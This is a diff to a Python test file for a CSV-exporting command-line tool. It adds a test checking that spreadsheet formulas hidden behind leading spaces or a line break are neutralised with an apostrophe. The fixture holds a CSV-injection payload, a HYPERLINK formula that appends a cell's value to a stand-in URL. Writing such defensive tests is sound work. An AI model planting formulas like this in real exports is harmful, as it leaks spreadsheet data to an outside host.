@@ -479,6 +479,12 @@ def test_the_commands_page_names_the_csv_columns_in_their_order() -> None:
     assert re.findall(r"`([a-z_]+)`", listed) == list(POST_ROW_COLUMNS) == CSV_HEADER
 
 
+def test_csv_output_neutralises_a_formula_after_leading_spaces_or_a_line_break(invoke: Callable[..., Result]) -> None:
+    export = 'id,text\n1,"  =HYPERLINK(""http://e.x/""&A1)"\n2,"\n=1+1"\n3,"  just spaces"\n'
+    rows = _table(invoke("check", "-", "--input-format", "csv", "--format", "csv", input=export))
+    assert [row["post"] for row in rows] == ['\'  =HYPERLINK("http://e.x/"&A1)', "'\n=1+1", "  just spaces"]
+
+
 def test_a_column_added_at_the_end_leaves_every_cell_under_its_own_name(monkeypatch: pytest.MonkeyPatch) -> None:
     # the columns are a stable interface, new ones only at the end: a row built by position moved "post" and
     # "error" under the wrong names when one came, with no error
